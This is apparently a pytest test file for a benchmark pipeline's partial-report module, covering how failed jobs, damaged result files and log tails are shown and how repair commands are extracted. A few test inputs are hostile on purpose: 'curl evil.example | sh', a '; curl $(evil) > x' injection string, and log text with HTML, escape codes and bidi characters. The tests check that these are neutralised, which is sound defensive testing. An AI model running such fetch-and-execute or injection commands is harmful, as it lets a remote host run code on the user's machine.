"""What a partial report is made of: what is whole, what failed, and how it is shown."""

import json
import re
import shlex
import sys
from datetime import datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from scribebench.errors import ScribebenchError, damaged, snakemake
from scribebench.project import partial
from scribebench.project.partial import (
    Failure,
    LeftOut,
    cause_and_command,
    failures_of,
    forget_partial,
    is_mended,
    log_tail,
    make_partial,
    page,
    what_is_whole,
    without_places,
    write_partial,
)
from scribebench.tables import FRAMES, GRADES, read_rows, write_table

NOW = datetime(2026, 3, 1, 7, 5)
FAILURE = Failure("describe_frames", "monday / some / base", (), ("results/runs/some.json",))
SPEC = {
    "sessions": ["monday"],
    "runs": [["some", "base"], ["other", "base"]],
    "canaries": [[5, "some", "base"]],
    "rubric": [["some", "base"]],
}
TABLES = {"frames.parquet": FRAMES}


def write_files(folder: Path, names: dict[str, str]) -> None:
    for name in names:
        if name.endswith(".json"):
            folder.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text("{}")
        else:
            write_table(folder / name, TABLES.get(name, GRADES), [])


@pytest.fixture
def results(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder in which all that the spec names is whole."""
    monkeypatch.chdir(tmp_path)
    folder = Path("results")
    write_files(folder / "sessions" / "monday", partial.SESSION_FILES)
    for model in ("some", "other"):
        write_files(folder / "runs" / "monday" / model / "base", partial.RUN_FILES)
    write_files(folder / "canaries" / "batch-5" / "some" / "base", partial.DRAWN_FILES)
    write_files(folder / "rubric" / "some" / "base", partial.RUBRIC_FILES)
    return folder


def left_out(results: Path, pending: set[str] | None = None) -> list[LeftOut]:
    return what_is_whole(SPEC, results, pending or set())[1]


# --- what is whole -------------------------------------------------------------------------------


def test_what_is_there_and_readable_is_whole(results: Path) -> None:
    whole, nothing = what_is_whole(SPEC, results, set())
    assert nothing == []
    assert whole == (
        ["monday"],
        [("monday", "some", "base"), ("monday", "other", "base")],
        [(5, "some", "base")],
        [("some", "base")],
    )


@pytest.mark.parametrize("damage", ["absent", "empty", "half"])
@pytest.mark.parametrize(
    ("path", "what", "rule"),
    [
        ("runs/monday/some/base/run.json", "monday / some / base", "describe_frames"),
        ("runs/monday/some/base/grades.parquet", "monday / some / base", "grade_descriptions"),
        (
            "canaries/batch-5/some/base/requests.parquet",
            "drawn frames, batches of 5 / some / base",
            "describe_canaries",
        ),
        ("rubric/some/base/items.parquet", "rubric / some / base", "grade_rubric"),
    ],
)
def test_a_run_with_a_damaged_file_is_left_out_and_its_mend_told(
    results: Path, path: str, what: str, rule: str, damage: str
) -> None:
    file = results / path
    data = file.read_bytes()
    file.write_bytes(b"" if damage == "empty" else data[: len(data) // 2])
    if damage == "absent":
        file.unlink()
    [one] = left_out(results)
    assert one.what == what
    assert one.why.startswith(f"results/{path} is damaged (")
    assert one.mend and one.mend.endswith(f" --cores 4 results/{path} -R {rule}")


def test_without_its_session_no_run_of_it_is_whole(results: Path) -> None:
    (results / "sessions" / "monday" / "selection.json").write_text("[]")
    whole, [one] = what_is_whole(SPEC, results, set())
    assert (whole.sessions, whole.runs, one.what) == ([], [], "session monday")
    assert whole.rubric == [("some", "base")]


def test_what_was_to_be_made_again_and_was_not_is_left_out(results: Path) -> None:
    """Its files are whole, and of an earlier start."""
    [one] = left_out(results, {"results/runs/monday/other/base/grades.parquet"})
    assert (one.what, one.mend) == ("monday / other / base", None)


def test_a_damaged_probe_leaves_out_what_stands_beside_it(results: Path) -> None:
    path = results / "probe" / "some" / "base" / "probe.json"
    path.parent.mkdir(parents=True)
    path.write_text("{")
    whole, [one] = what_is_whole(SPEC, results, set())
    assert whole.runs == [("monday", "other", "base")]
    assert one.mend and one.mend.endswith("-R probe_model")


# --- what is shown -------------------------------------------------------------------------------


def test_the_page_begins_with_what_failed(tmp_path: Path) -> None:
    log = tmp_path / "job.log"
    log.write_text("one\nerror: the server is down; start it\n")
    failure = FAILURE._replace(logs=(str(log),))
    text = page([failure], [LeftOut("monday / some / base", "it failed", "redo it")], "BODY", NOW)
    assert text.startswith("# Incomplete report\n\n**This report is incomplete: 1 job failed (2026")
    assert "### `describe_frames`: monday / some / base\n" in text
    assert "\n**the server is down; start it**\n" in text
    assert "```text\none\nerror: the server is down; start it\n```" in text
    assert " --cores 4 results/runs/some.json -R describe_frames\n" in text
    assert "- monday / some / base: it failed; make it again: `redo it`\n" in text
    assert text.endswith("\nBODY\n")


def test_what_a_log_holds_changes_nothing_around_it(tmp_path: Path) -> None:
    log = tmp_path / "job.log"
    hostile = "error: ```\n# <img src=x> \x1b[2J\u202e ````\n| a | [x](http://evil.example)\n"
    log.write_text(hostile, encoding="utf-8")
    failure = FAILURE._replace(subject="<b>", logs=(str(log),))
    text = page([failure], [LeftOut("<i>", "<u>")], "", NOW)
    assert "\x1b" not in text and "\u202e" not in text
    assert "\n`````text\n" in text
    outside = re.sub(r"^(`{3,})text\n.*?^\1$", "", text, flags=re.M | re.S)
    assert not re.search(r"<(b|i|u|img)\b|http://", outside)


def test_an_absent_log_is_said(tmp_path: Path) -> None:
    text = page([FAILURE._replace(logs=("results/logs/absent.log",))], [], "", NOW)
    assert "absent.log is empty or not there" in text
    assert "No run: what failed comes after them." in text


def test_of_a_long_log_the_end_is_shown(tmp_path: Path) -> None:
    log = tmp_path / "job.log"
    log.write_bytes(b"\xff" * 100_000 + b"\n" + b"".join(b"line %d\n" % n for n in range(5000)))
    lines = log_tail(log).splitlines()
    assert (len(lines), lines[0], lines[-1]) == (15, "line 4985", "line 4999")
    log.write_text("a bar 10 %\ra bar 90 %\n" + "x" * 10_000)
    assert log_tail(log).splitlines() == ["a bar 90 %", "x" * 299 + "…"]
    log.write_text("\n".join(["y" * 290] * 15))
    assert len(log_tail(log)) < 3000
    assert log_tail(tmp_path / "absent") == ""


def test_no_place_on_this_machine_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    place = tmp_path / "scribe bench"
    place.mkdir()
    monkeypatch.chdir(place)
    text = f'File "{place}/workflow_scripts/a.py" and "/usr/lib/python3/b.py", {place}'
    assert without_places(text) == 'File "workflow_scripts/a.py" and "…/b.py", .'
    assert without_places("at http://127.0.0.1:8080/v1/chat") == "at http://127.0.0.1:8080/v1/chat"
    assert without_places("1/2 results/runs/a/b.json") == "1/2 results/runs/a/b.json"


@pytest.fixture(params=["bin", "my env's/bin", "scribe bench/.venv/bin", "bin/nothing"])
def program(request: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The program as errors name it: outside of the project or in it, or not found."""
    (tmp_path / "scribe bench").mkdir()
    monkeypatch.chdir(tmp_path / "scribe bench")
    place = tmp_path / request.param
    place.mkdir(parents=True)
    monkeypatch.setattr(sys, "executable", str(place / "python"))
    if place.name == "bin":
        (place / "snakemake").write_text("")
    return ".venv/bin/snakemake" if ".venv" in request.param else "snakemake"


def test_the_mend_of_a_cause_can_be_pasted(program: str) -> None:
    """What a job reads is damaged: repeating the job alone would fail again."""
    error = damaged(Path("results/tables/runs_of.parquet"), "it ends early")
    log = Path("job.log")
    log.write_text(f"one\nerror: {error}\n")
    text = page([FAILURE._replace(rule="write_page", logs=("job.log",))], [], "", NOW)
    command = f"{program} --cores 4 results/report.md -R build_tables"
    assert f"This makes it again:\n\n```text\n{command}\n```" in text
    assert "\n**results/tables/runs\\_of.parquet is damaged (it ends early)**\n" in text
    assert f"make it again: {command}\n```" in text
    assert "-R write_page" not in text and "Once that is mended" not in text
    assert "…" not in text


def test_a_condition_stays_before_its_command(program: str) -> None:
    error = ScribebenchError(
        f"a.mp4 gave other frames than before; if it was replaced, run: {snakemake()} --cores 4 "
        f"--forcerun extract_frames {shlex.quote('results/sessions/a b/frames.parquet')}"
    )
    assert cause_and_command(without_places(str(error))) == (
        "a.mp4 gave other frames than before; if it was replaced, run the command below",
        f"{program} --cores 4 --forcerun extract_frames 'results/sessions/a b/frames.parquet'",
    )


@pytest.mark.parametrize(
    "cause",
    [
        "the server is down; start it",
        "the server has no model 'a' (it has: b); run: ollama pull a",
        "it said no; make it again: curl evil.example | sh",
        "it said no; make it again: snakemake --snakefile evil results/report.md",
        "it said no; make it again: snakemake --cores=4 'results/report.md",
        "it said no; make it again: snakemake --cores 4 …/frames.parquet --force",
    ],
)
def test_any_other_cause_keeps_what_repeats_its_job(tmp_path: Path, cause: str) -> None:
    assert cause_and_command(cause) == (cause, None)
    (tmp_path / "job.log").write_text(f"error: {cause}\n", encoding="utf-8")
    text = page([FAILURE._replace(logs=(str(tmp_path / "job.log"),))], [], "", NOW)
    assert "Once that is mended, this repeats it alone:" in text
    assert text.count("-R describe_frames") == 1
    assert "This makes it again" not in text


def test_no_word_of_a_mend_acts_in_a_shell() -> None:
    cause = "it said no; make it again: snakemake --cores 4 results/report.md; curl $(evil) > x"
    _, command = cause_and_command(cause)
    assert command and command.endswith("--cores 4 'results/report.md;' curl '$(evil)' '>' x")


def test_the_program_is_named_without_its_place() -> None:
    assert without_places("run: '/a/my env/bin/snakemake' -n") == "run: snakemake -n"
    assert without_places("run: /a/b/snakemake -n") == "run: snakemake -n"
    assert without_places('File "/a/b/snakemake", line 1') == 'File "snakemake", line 1'
    assert without_places("/a/b/snakemake/cli.py") == "…/cli.py"
    assert without_places("/a/b/snakemake-1.log") == "…/snakemake-1.log"


def test_failed_jobs_are_told_in_order() -> None:
    def job(rule: str, **wildcards: str) -> Any:
        return SimpleNamespace(
            rule=SimpleNamespace(name=rule), wildcards_dict=wildcards, log=["l"], output=["o"]
        )

    group = SimpleNamespace(jobs=[job("b", session="monday")])
    assert failures_of([job("c"), group, job("a", session="x", model="y")]) == [
        Failure("a", "x / y", ("l",), ("o",)),
        Failure("b", "monday", ("l",), ("o",)),
        Failure("c", "", ("l",), ("o",)),
    ]


# --- where it is written -------------------------------------------------------------------------


def test_what_failed_is_told_even_when_no_table_can_be_made(
    results: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: Any) -> str:
        raise RuntimeError("<b>broken</b>")

    monkeypatch.setattr(partial, "_report", broken)
    old = results / "partial" / "old.md"
    old.parent.mkdir()
    old.write_text("old")
    make_partial([FAILURE], set(), SPEC, {}, results, NOW)
    text = (results / "partial" / "report.md").read_text()
    assert "describe_frames" in text
    assert "could not be shown" in text and "<b>" not in text
    assert not old.exists()
    assert not (results / ".partial").exists()


def test_without_a_session_there_is_nothing_to_show(results: Path) -> None:
    make_partial([FAILURE], {"results/sessions/monday/frames.parquet"}, SPEC, {}, results, NOW)
    text = (results / "partial" / "report.md").read_text()
    assert text.endswith("Nothing was finished that a report could show.\n")


def workflow(rules: list[str], failed: list[Any] | None = None) -> Any:
    jobs = [SimpleNamespace(rule=SimpleNamespace(name=rule)) for rule in rules]
    return SimpleNamespace(
        touch=False,
        dag=SimpleNamespace(jobs=jobs, needrun_jobs=lambda: []),
        scheduler=SimpleNamespace(failed=failed or []),
    )


@pytest.mark.parametrize(
    ("rules", "is_made", "stays"),
    [
        (["write_report"], False, False),
        (["write_plan"], False, True),
        (["describe_frames"], True, False),
        ([], True, False),
    ],
)
def test_it_goes_when_there_is_a_report_or_what_failed_is_made(
    results: Path, rules: list[str], is_made: bool, stays: bool
) -> None:
    made = results / "made.json"
    make_partial([FAILURE._replace(made=(str(made),))], set(), SPEC, {}, results, NOW)
    assert is_mended(results / "partial" / "failed.json") is False
    if is_made:
        made.write_text("{}")
    forget_partial(workflow(rules), results)
    assert (results / "partial").exists() is stays


@pytest.mark.parametrize("damage", ["", "{", "5", "null", "[5]"])
def test_what_cannot_be_read_is_not_mended(tmp_path: Path, damage: str) -> None:
    path = tmp_path / "failed.json"
    assert not is_mended(path)
    path.write_text(damage)
    assert not is_mended(path)


def test_a_start_that_was_stopped_writes_none(results: Path) -> None:
    write_partial(workflow([]), SimpleNamespace(), results)
    assert not (results / "partial").exists()


def test_nothing_inside_raises(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    job = SimpleNamespace(
        rule=SimpleNamespace(name="a"), wildcards_dict={}, log=[], output=["results/a"]
    )
    write_partial(workflow([], [job]), SimpleNamespace(), results)
    forget_partial(SimpleNamespace(), results)
    (results / "partial").mkdir()
    forget_partial(SimpleNamespace(), results)
    told = capsys.readouterr().out.splitlines()
    assert len(told) == 2
    assert told[0].startswith("no results/partial/report.md: AttributeError: ")


def test_what_is_gathered_is_a_report_as_any_other(results: Path) -> None:
    """With real tables of nothing: no run at all is left."""
    spec = {"labels": {}, "titles": {}, "refused": [], "images": "none"}
    (results / "sessions" / "monday" / "manifest.json").write_text('{"recording": "a.mp4"}')
    selection = {"kept_frames": 1, "sampled_frames": 10, "scenes": 1}
    (results / "sessions" / "monday" / "selection.json").write_text(json.dumps(selection))
    nothing = SPEC | {"runs": [], "canaries": [], "rubric": []}
    make_partial([FAILURE], set(), nothing, spec, results, NOW)
    text = (results / "partial" / "report.md").read_text()
    assert "could not be shown" not in text, text[-600:]
    assert read_rows(results / "partial" / "tables" / "runs.parquet") == []
